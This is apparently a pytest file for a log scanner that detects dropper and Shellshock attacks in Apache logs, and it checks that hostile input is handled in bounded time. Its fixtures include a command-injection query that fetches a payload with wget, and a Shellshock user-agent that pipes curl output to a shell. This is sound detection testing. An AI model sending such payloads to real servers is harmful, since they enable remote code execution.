"""Hostile input: nothing crashes, nothing is lost, every line costs a bounded amount of work.

The files are built here, in tmp_path (real gzip, real Apache-formatted lines), and driven
through the command line the way a user runs it. Every case is also run with a process pool
(``--jobs 2``, the pool threshold lowered so small files take that path, ranges split small)
and with ``--full`` (no prefilter); all four runs must agree exactly.
"""

from __future__ import annotations

import re
import time

from conftest import combined_line
from dropscan import match
from dropscan.decode import MAX_FIELD
from dropscan.logformat import compile_format
from dropscan.match import LINE_BUDGET

COMBINED = compile_format("combined")
NORMAL = combined_line("/index.html")


def line(target: bytes = b"/", ua: bytes = b"Mozilla/5.0", referer: bytes = b"-", status: bytes = b"200") -> bytes:
    """A combined line from already Apache-escaped field bytes (fast for megabyte fields)."""
    return (
        b'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET '
        + target
        + b' HTTP/1.1" '
        + status
        + b' 512 "'
        + referer
        + b'" "'
        + ua
        + b'"\n'
    )


def _starts(chunk: bytes) -> list[int]:
    return [0] + [m.end() for m in re.finditer(rb"\n(?=.)", chunk, re.S)]


# --- bounded work: regressions for what was unbounded -------------------------------------
def test_prefilter_is_linear_in_marker_matches(fast_scanner):
    # Every byte of the hostile line is a prefilter marker (a backslash). Finding each match's
    # line by searching back to its start was quadratic: minutes for a 2 MB line.
    hostile = line(ua=b"\\\\" * 1_000_000)
    few = combined_line("/?q=" + "%2541" * 2000)  # 2000 marker matches: below the slice limit
    chunk = NORMAL * 50 + hostile + NORMAL * 600 + few + NORMAL * 50
    t0 = time.perf_counter()
    got = fast_scanner.prefilter.candidates(chunk)
    assert time.perf_counter() - t0 < 5
    hostile_at = len(NORMAL) * 50
    few_at = hostile_at + len(hostile) + len(NORMAL) * 600
    # the hostile line (and at most the rest of its slice) is passed; a line with fewer matches
    # than the limit is passed alone; lines in other slices are not
    assert hostile_at in got and few_at in got
    assert [s for s in got if s > hostile_at] == [few_at]
    assert set(got) <= set(_starts(chunk))


def keyword_soup(sigs, size: int = MAX_FIELD - 64) -> str:
    """Every signature keyword with arguments and a URL, repeated: every pattern is tried on
    every view, each taking a good share of its timeout."""
    unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
    return (unit * (size // len(unit) + 1))[:size]


def test_a_line_has_a_matching_budget(full_scanner, sigs):
    # three fields of keyword soup used to cost ~10 s (30 s with nested base64 views)
    soup = keyword_soup(sigs)
    hostile = combined_line("/?" + soup, ua=soup, referer=soup)
    attack = combined_line("/?c=;wget http://203.0.113.9/a")
    t0 = time.perf_counter()
    r = full_scanner.scan_chunk(hostile + attack, COMBINED, log_file="x")
    assert time.perf_counter() - t0 < LINE_BUDGET + 5
    assert (r.lines, r.records, r.rejected) == (2, 2, 0)
    assert r.timeouts >= 1  # the spent budget is counted, never silent
    assert [(f.line_no, f.rule_ids[0]) for f in r.findings][-1] == (2, "dropper.wget")


def test_a_spent_budget_counts_one_timeout_and_keeps_going(full_scanner, monkeypatch):
    attack = combined_line("/?c=;wget http://203.0.113.9/a", ua="() { :; }; /bin/sh -c 'curl http://h/x|sh'")
    monkeypatch.setattr(match, "LINE_BUDGET", 0.0)
    assert full_scanner.scan_line(attack, COMBINED) == (None, 1)
    r = full_scanner.scan_chunk(attack * 3, COMBINED, log_file="x")
    assert (r.lines, r.records, r.timeouts, r.findings) == (3, 3, 3, [])
    monkeypatch.setattr(match, "LINE_BUDGET", 1.0)
    finding, timeouts = full_scanner.scan_line(attack, COMBINED)
    assert timeouts == 0 and set(finding.rule_ids) >= {"dropper.wget", "dropper.curl", "shellshock.command"}
